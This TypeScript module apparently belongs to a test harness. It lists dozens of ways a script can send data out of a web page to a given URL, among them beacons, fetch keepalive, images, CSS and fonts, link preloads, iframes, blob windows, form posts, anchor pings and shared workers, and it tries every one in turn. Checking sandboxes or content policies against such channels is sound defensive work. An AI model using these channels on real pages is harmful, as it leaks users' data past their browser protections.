import { ATTACKS, type Attack, attackAll, blob } from "./attacks.ts";

/** Ways out of a page: those of a worker, and its elements, its styles and what runs by them. */
export const PAGE_ATTACKS: Readonly<Record<string, Attack>> = {
	...ATTACKS,
	beacon: (to) => void navigator.sendBeacon(to, "stolen"),
	keepalive: (to) =>
		fetch(to, { method: "POST", keepalive: true, mode: "no-cors" }),
	image: (to) => put("img", { src: to }),
	picture: (to) => put("img", { srcset: `${to} 2x` }),
	video: (to) => put("video", { src: to, preload: "auto" }),
	style: (to) => {
		put("div", {}).style.backgroundImage = `url("${to}")`;
	},
	"adopted-style": (to) => {
		const sheet = new CSSStyleSheet();
		sheet.replaceSync(`body::after { content: url("${to}") }`);
		document.adoptedStyleSheets.push(sheet);
	},
	font: (to) => new FontFace("stolen", `url("${to}")`).load(),
	stylesheet: (to) => put("link", { rel: "stylesheet", href: to }),
	prefetch: (to) => put("link", { rel: "prefetch", href: to }),
	preload: (to) => put("link", { rel: "preload", as: "image", href: to }),
	modulepreload: (to) => put("link", { rel: "modulepreload", href: to }),
	script: (to) => put("script", { src: to }),
	"script-of-text": (to) =>
		put("script", { textContent: `fetch("${to}").then(() => {})` }),
	handler: (to) => {
		const button = put("button", {});
		button.setAttribute("onclick", `fetch("${to}")`);
		button.click();
	},
	"script-address": (to) => put("a", { href: `javascript:${run(to)}` }).click(),
	markup: (to) => {
		put("div", {}).innerHTML = `<img src="${to}">`;
	},
	frame: (to) => put("iframe", { src: to }),
	"frame-of-text": (to) => put("iframe", { srcdoc: `<img src="${to}">` }),
	"frame-of-blob": (to) =>
		put("iframe", { src: blob(`<img src="${to}">`, "text/html") }),
	"window-of-blob": (to) =>
		void window.open(blob(`<img src="${to}">`, "text/html")),
	object: (to) => put("object", { data: to }),
	embed: (to) => put("embed", { src: to }),
	form: (to) => {
		put("iframe", { name: "target" });
		const form = put("form", { action: to, method: "post", target: "target" });
		form.submit();
	},
	ping: (to) => put("a", { href: "#stolen", ping: to }).click(),
	"shared-worker": (to) => void new SharedWorker(blob(run(to))),
};

/** Evaluated in a page: tries every way out it has. */
export const attack = (to: string): Promise<string[]> =>
	attackAll(PAGE_ATTACKS, to);

const run = (to: string) => `fetch("${to}").then(() => {})`;

/** Puts an element with these properties into the page. */
function put<Name extends keyof HTMLElementTagNameMap>(
	name: Name,
	properties: Partial<Record<string, string>>,
): HTMLElementTagNameMap[Name] {
	const element = document.createElement(name);
	document.body.append(Object.assign(element, properties));
	return element;
}
